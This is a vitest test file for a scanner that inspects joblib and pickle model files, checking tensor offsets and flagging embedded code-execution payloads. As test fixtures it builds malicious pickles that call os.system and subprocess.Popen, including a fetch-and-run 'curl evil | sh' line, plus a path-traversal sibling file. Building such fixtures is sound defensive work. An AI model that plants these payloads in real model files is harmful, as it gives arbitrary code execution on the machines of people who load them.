import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { detectFormat } from '../../src/formats/index.ts';
import { JOBLIB_LOOKAHEAD_BYTES, createJoblibScanner, isJoblibPickle, joblibFormat } from '../../src/formats/joblib.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createNodeFileSource } from '../../src/io/node-source.ts';
import type { FileReport, TensorInfo } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import { type ArrayItem, dtype, joblibFile, objectArrayPickle, shape, wrapper } from '../builders/joblib.ts';
import * as p from '../builders/pickle.ts';

const fixturePath = (name: string) => fileURLToPath(new URL(`../fixtures/joblib/${name}`, import.meta.url));
const fixture = (name: string) => new Uint8Array(readFileSync(fixturePath(name)));

const scanFile = async (name: string): Promise<FileReport> =>
  scanSource(await createNodeFileSource(fixturePath(name)), { createSha256: createNodeSha256 });

const scanBytes = (bytes: Uint8Array, name = 'model.joblib', chunkSize?: number): Promise<FileReport> =>
  scanSource(createMemorySource(bytes, name), { createSha256: createNodeSha256, chunkSize });

const rules = (report: FileReport) => report.findings.map((finding) => finding.rule);
const f8 = (...values: number[]) => new Uint8Array(Float64Array.from(values).buffer);

/**
 * The arrays of arrays.joblib as NumPy and joblib 1.2 wrote them: dtype.str,
 * shape, and where their bytes are, checked in Python by make_fixtures.py
 * (which finds each array's bytes in the file). The object array's bytes are
 * its inline pickle (PROTO at 1348, STOP at 1555); the empty array has none.
 */
const ARRAYS_JOBLIB: TensorInfo[] = [
  { name: 'float64', dtype: '<f8', shape: [2, 3], offset: 240, length: 48 },
  { name: 'int32', dtype: '<i4', shape: [3], offset: 384, length: 12 },
  { name: 'uint8', dtype: '|u1', shape: [5], offset: 496, length: 5 },
  { name: 'bool', dtype: '|b1', shape: [3], offset: 592, length: 3 },
  { name: 'float16', dtype: '<f2', shape: [2], offset: 688, length: 4 },
  { name: 'complex128', dtype: '<c16', shape: [1], offset: 800, length: 16 },
  { name: 'big_endian', dtype: '>i4', shape: [2], offset: 912, length: 8 },
  { name: 'unicode', dtype: '<U3', shape: [2], offset: 1008, length: 24 },
  { name: 'bytes', dtype: '|S4', shape: [1], offset: 1120, length: 4 },
  { name: 'structured', dtype: '|V12', shape: [1], offset: 1248, length: 12 },
  { name: 'objects', dtype: '|O', shape: [3], offset: 1348, length: 208 },
  { name: 'scalar', dtype: '<i2', shape: [], offset: 1648, length: 2 },
  { name: 'fortran', dtype: '<f4', shape: [3, 2], offset: 1744, length: 24 },
  { name: 'empty', dtype: '<f8', shape: [0, 3], offset: 1824, length: 0 },
  { name: 'after_objects', dtype: '<f8', shape: [1], offset: 1888, length: 8 },
];

describe('joblib fixtures made by joblib 1.2', () => {
  it('lists every array of a dict of arrays, with dtype, shape and where its bytes are', async () => {
    const report = await scanFile('arrays.joblib');
    expect(report.format).toBe('joblib');
    expect(report.verdict).toBe('clean');
    expect(report.tensors).toEqual(ARRAYS_JOBLIB);
    const bytes = fixture('arrays.joblib');
    expect([bytes[1348], bytes[1555]]).toEqual([p.op.OP_PROTO, p.op.OP_STOP]);
    expect(report.metadata.joblib).toEqual({ arrays: 15, rawArrayBytes: 170, objectArrays: 1 });
    expect(report.findings.every((finding) => finding.severity === 'info')).toBe(true);
    expect(report.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('gives the same report for any chunking of the one pass', async () => {
    const bytes = fixture('arrays.joblib');
    const reference = await scanBytes(bytes, 'arrays.joblib');
    for (const chunkSize of [1, 3, 16, 100, 1000]) {
      const report = await scanBytes(bytes, 'arrays.joblib', chunkSize);
      expect(report.tensors).toEqual(reference.tensors);
      expect(report.findings).toEqual(reference.findings);
      expect(report.metadata).toEqual(reference.metadata);
    }
  });

  it('names the arrays of a scikit-learn estimator by their attribute', async () => {
    const report = await scanFile('logistic_regression.joblib');
    expect(report.format).toBe('joblib');
    expect(report.verdict).toBe('clean');
    // Checked in Python: getattr(model, name).tobytes() found at these offsets.
    expect(report.tensors).toEqual([
      { name: 'classes_', dtype: '<i8', shape: [2], offset: 528, length: 16 },
      { name: 'n_iter_', dtype: '<i4', shape: [1], offset: 640, length: 4 },
      { name: 'coef_', dtype: '<f8', shape: [1, 2], offset: 736, length: 16 },
      { name: 'intercept_', dtype: '<f8', shape: [1], offset: 816, length: 8 },
    ]);
  });

  it('follows protocol 0, where wrappers are made by copy_reg._reconstructor', async () => {
    const report = await scanFile('protocol0.joblib');
    expect(report.format).toBe('joblib');
    expect(report.verdict).toBe('clean');
    expect(report.tensors).toEqual([{ name: 'weights', dtype: '<i4', shape: [3], offset: 352, length: 12 }]);
  });
});

describe('joblib detection', () => {
  it.each([
    ['the arrays fixture', fixture('arrays.joblib'), 'x.bin', true],
    ['the protocol 0 fixture', fixture('protocol0.joblib'), 'x.bin', true],
    ['a plain pickle', p.payload('os', 'system', 'id'), 'model.pkl', false],
    ['a plain pickle named .joblib', p.payload('os', 'system', 'id'), 'model.joblib', true],
    ['text that mentions joblib but is no pickle', new TextEncoder().encode('joblib.numpy_pickle NumpyArrayWrapper'), 'x.joblib', false],
  ])('%s → %s', (_name, bytes, name, expected) => {
    expect(isJoblibPickle(bytes, name)).toBe(expected);
    expect(joblibFormat.detect(bytes, name)).toBe(expected);
  });

  it('comes before the plain pickle module in the registry', () => {
    expect(detectFormat(fixture('arrays.joblib'), 'model.pkl')?.id).toBe('joblib');
    expect(detectFormat(p.payload('os', 'system', 'id'), 'model.pkl')?.id).toBe('pickle');
  });
});

/** An array item whose raw bytes are `data`. */
const item = (data: Uint8Array, options: Parameters<typeof wrapper>[0] = {}, padded = true): ArrayItem => ({ wrapper: wrapper(options), data, padded });

describe('joblib raw array bytes', () => {
  it('skips raw bytes in the joblib reading, finds the payload after them, and says what pickle.load would run in them', async () => {
    // Array bytes to joblib.load, but a protocol 0 posix.system call to pickle.load, which reads them as opcodes.
    const hidden = new TextEncoder().encode("cposix\nsystem\n(S'hidden'\ntR.");
    const { bytes, dataOffsets } = joblibFile(
      [
        // joblib < 1.2 layout (no padding byte), so the array bytes follow the BUILD directly.
        ['hidden', item(hidden, { dimensions: [hidden.length], dtype: dtype('u1', { order: '|' }), alignment: 'absent' }, false)],
        ['run', p.call(p.global('os', 'system'), p.binunicode('curl evil | sh'))],
      ],
    );
    const report = await scanBytes(bytes);
    expect(report.tensors).toEqual([{ name: 'hidden', dtype: '|u1', shape: [hidden.length], offset: dataOffsets[0], length: hidden.length }]);
    expect(report.verdict).toBe('dangerous');
    const imports = report.findings.filter((finding) => finding.rule.startsWith('pickle.import'));
    const osOffset = findText(bytes, 'os\nsystem') - 1;
    const joblibView = imports.find((finding) => finding.location.offset === osOffset);
    expect(joblibView?.detail).not.toMatch(/^Only for pickle\.load/);
    const plainView = imports.find((finding) => finding.location.offset === dataOffsets[0]);
    expect(plainView?.detail).toMatch(/^Only for pickle\.load, not joblib\.load/);
    expect(plainView?.detail).toMatch(/posix/);
    // The joblib reading itself never saw an import at the array bytes.
    expect(imports.filter((finding) => finding.location.offset === dataOffsets[0] && !finding.detail.startsWith('Only for pickle.load'))).toEqual([]);
  });

  it('finds what pickle.load would run in the alignment padding too', async () => {
    // 0x28 is a padding length of 40 to joblib and MARK to pickle.load; the 40 padding bytes are a call.
    const call = new TextEncoder().encode("cposix\nsystem\n(S'pad'\ntR");
    const padding = p.pickle(call, new Array<number>(40 - call.length - 1).fill(p.op.OP_NONE), p.stop());
    const data = f8(1, 2);
    const { bytes } = joblibFile([['padded', { wrapper: wrapper({ dimensions: [2] }), after: p.pickle([0x28], padding, data) }]]);
    const report = await scanBytes(bytes);
    const dataOffset = findBytes(bytes, data);
    expect(report.tensors).toEqual([{ name: 'padded', dtype: '<f8', shape: [2], offset: dataOffset, length: 16 }]);
    const plainView = report.findings.find((finding) => finding.detail.startsWith('Only for pickle.load'));
    expect(plainView?.location.offset).toBe(dataOffset - 40);
    expect(report.verdict).toBe('dangerous');
  });

  it('reports nothing from the plain reading for real array bytes', async () => {
    const report = await scanFile('arrays.joblib');
    expect(report.findings.filter((finding) => finding.detail.startsWith('Only for pickle.load'))).toEqual([]);
  });

  it.each([
    ['joblib ≥ 1.2 padding', 16 as number | null | 'absent', true],
    ['alignment None', null, false],
    ['joblib < 1.2 (no alignment key)', 'absent' as const, false],
  ])('reads the raw bytes after %s', async (_name, alignment, padded) => {
    const { bytes, dataOffsets } = joblibFile([
      ['a', item(f8(1, 2, 3), { dimensions: [3], alignment }, padded)],
      ['b', item(f8(4), { dimensions: [1], alignment }, padded)],
    ]);
    const report = await scanBytes(bytes);
    expect(report.verdict).toBe('clean');
    expect(report.tensors.map((tensor) => [tensor.name, tensor.offset, tensor.length])).toEqual([
      ['a', dataOffsets[0], 24],
      ['b', dataOffsets[1], 8],
    ]);
  });

  it.each([
    ["a flexible dtype's size from its state, not its type string", dtype('V8', { order: '|', elementSize: 16 }), '|V16', 32],
    ['a unicode dtype (4 bytes a character)', dtype('U2', { elementSize: 8 }), '<U2', 16],
    ['a big-endian dtype', dtype('i4', { order: '>' }), '>i4', 8],
    ['a dtype without state', dtype('f4', { build: false }), '<f4', 8],
  ])('sizes %s', async (_name, dtypeBytes, shown, length) => {
    const { bytes } = joblibFile([['x', item(new Uint8Array(length), { dimensions: [2], dtype: dtypeBytes })]]);
    const report = await scanBytes(bytes);
    expect(report.tensors).toEqual([expect.objectContaining({ dtype: shown, shape: [2], length })]);
    expect(report.verdict).toBe('clean');
  });

  it.each([
    ['a platform-dependent dtype', { dtype: dtype('l') }],
    ['a long double', { dtype: dtype('f16') }],
    ['a dtype that is not a numpy.dtype call', { dtype: p.call(p.global('builtins', 'str'), p.binunicode('f8')) }],
    ['a shape that is not a tuple of ints', { shape: p.pickle(p.mark(), p.binunicode('3'), p.tuple()) }],
    ['a negative dimension', { dimensions: [-1] }],
    ['a zero-sized item', { dtype: dtype('S0', { order: '|', elementSize: 0 }) }],
  ])('stops with a finding at %s, and does not read the rest as opcodes', async (_name, options) => {
    const { bytes } = joblibFile(
      [
        ['x', { wrapper: wrapper(options), data: Uint8Array.of(0xff, 0xfe, 0xfd) }],
        ['run', p.call(p.global('os', 'system'), p.binunicode('id'))],
      ],
    );
    const report = await scanBytes(bytes);
    expect(rules(report)).toContain('joblib.array.size-unknown');
    const finding = report.findings.find((entry) => entry.rule === 'joblib.array.size-unknown');
    expect(finding?.severity).toBe('high');
    expect(report.verdict).toBe('suspicious');
    // Nothing after the wrapper was read: no opcode errors, no import of os.
    expect(rules(report).filter((rule) => rule.startsWith('pickle.stream') || rule.startsWith('pickle.import'))).toEqual([]);
    expect(report.metadata.joblib).toMatchObject({ scanStoppedAt: expect.any(Number) });
  });

  it('reports raw bytes cut short by the end of the file', async () => {
    const { bytes } = joblibFile([['x', item(f8(1, 2, 3), { dimensions: [3] })]]);
    const report = await scanBytes(bytes.subarray(0, bytes.length - 20));
    expect(rules(report)).toContain('pickle.stream.truncated');
    expect(report.verdict).toBe('malformed');
  });
});

describe('joblib object arrays (an inline pickle)', () => {
  it('scans the inline pickle on its own and resumes the outer stream after its STOP', async () => {
    const inline = objectArrayPickle(p.binunicode('label'), p.none());
    const { bytes, dataOffsets } = joblibFile([
      ['labels', { wrapper: wrapper({ dimensions: [2], dtype: dtype('O8', { order: '|', flags: 63 }) }), after: inline }],
      ['after', item(f8(42), { dimensions: [1] })],
    ]);
    const report = await scanBytes(bytes);
    expect(report.verdict).toBe('clean');
    const inlineStart = findBytes(bytes, inline);
    expect(report.tensors).toEqual([
      { name: 'labels', dtype: '|O', shape: [2], offset: inlineStart, length: inline.length },
      { name: 'after', dtype: '<f8', shape: [1], offset: dataOffsets[0], length: 8 },
    ]);
    expect(rules(report).filter((rule) => rule.startsWith('pickle.stream'))).toEqual([]);
  });

  it('finds a payload inside the inline pickle, at its offset in the file', async () => {
    const inline = objectArrayPickle(p.call(p.global('os', 'system'), p.binunicode('id')));
    const { bytes } = joblibFile([['labels', { wrapper: wrapper({ dimensions: [1], dtype: dtype('O8', { order: '|', flags: 63 }) }), after: inline }]]);
    const report = await scanBytes(bytes);
    expect(report.verdict).toBe('dangerous');
    const osOffset = findText(bytes, 'os\nsystem') - 1;
    expect(report.findings.some((finding) => finding.rule.startsWith('pickle.import') && finding.location.offset === osOffset)).toBe(true);
    expect(report.weightsOnly?.accepted).toBe(false);
  });

  it('treats a structured dtype whose state flags hold objects as an object array, as NumPy does', async () => {
    const inline = objectArrayPickle(p.call(p.global('subprocess', 'Popen'), p.binunicode('id')));
    const { bytes } = joblibFile([['records', { wrapper: wrapper({ dimensions: [1], dtype: dtype('V16', { order: '|', elementSize: 16, flags: 1 }) }), after: inline }]]);
    const report = await scanBytes(bytes);
    expect(report.tensors).toEqual([expect.objectContaining({ name: 'records', dtype: '|V16', length: inline.length })]);
    expect(report.verdict).toBe('dangerous');
  });

  it(`scans an inline pickle longer than the look-ahead (${JOBLIB_LOOKAHEAD_BYTES} bytes) inline, with a finding`, async () => {
    const inline = objectArrayPickle(p.binbytes(new Uint8Array(JOBLIB_LOOKAHEAD_BYTES + 10)), p.call(p.global('os', 'system'), p.binunicode('id')));
    const { bytes } = joblibFile([['big', { wrapper: wrapper({ dimensions: [2], dtype: dtype('O8', { order: '|', flags: 63 }) }), after: inline }]]);
    const report = await scanBytes(bytes);
    expect(rules(report)).toContain('joblib.object-array.unseparated');
    // Scanned all the same: the import inside is found.
    expect(report.verdict).toBe('dangerous');
  });
});

describe('old joblib NDArrayWrapper pickles', () => {
  it('lists the sibling files the arrays are read from, and the policy flags them', async () => {
    const sibling = (file: string) =>
      p.pickle(
        p.global('joblib.numpy_pickle_compat', 'NDArrayWrapper'),
        p.emptyTuple(),
        p.newobj(),
        p.emptyDict(),
        p.mark(),
        p.binunicode('filename'),
        p.binunicode(file),
        p.binunicode('subclass'),
        p.global('numpy', 'ndarray'),
        p.setitems(),
        p.build(),
      );
    const { bytes } = joblibFile([
      ['a', sibling('model.pkl_01.npy')],
      ['b', sibling('../outside.npy')],
    ]);
    const report = await scanBytes(bytes, 'model.pkl');
    expect(report.format).toBe('joblib');
    expect(report.metadata.joblib).toMatchObject({ siblingFiles: ['model.pkl_01.npy', '../outside.npy'] });
    expect(rules(report)).toContain('pickle.joblib.sibling-file');
  });
});

describe('createJoblibScanner', () => {
  it('reports offsets from a base offset and findings under an entry', async () => {
    const { bytes } = joblibFile([['run', p.call(p.global('os', 'system'), p.binunicode('id'))]]);
    const scanner = createJoblibScanner({ offset: 0, length: bytes.length, baseOffset: 1000, entry: '<decompressed>' });
    scanner.push(bytes);
    const inspection = await scanner.finish();
    const osFinding = inspection.findings.find((finding) => finding.rule.startsWith('pickle.import'));
    expect(osFinding?.location).toMatchObject({ entry: '<decompressed>', offset: 1000 + findText(bytes, 'os\nsystem') - 1 });
    await expect(async () => scanner.finish()).rejects.toThrow(/twice/);
  });

  it('uses shape () for a 0-d array and reads one item', async () => {
    const { bytes, dataOffsets } = joblibFile([['scalar', item(f8(7), { shape: shape([]) })]]);
    const report = await scanBytes(bytes);
    expect(report.tensors).toEqual([{ name: 'scalar', dtype: '<f8', shape: [], offset: dataOffsets[0], length: 8 }]);
  });
});

function findText(bytes: Uint8Array, text: string): number {
  return findBytes(bytes, new TextEncoder().encode(text));
}

function findBytes(bytes: Uint8Array, needle: Uint8Array): number {
  outer: for (let index = 0; index + needle.length <= bytes.length; index++) {
    for (let offset = 0; offset < needle.length; offset++) if (bytes[index + offset] !== needle[offset]) continue outer;
    return index;
  }
  return -1;
}
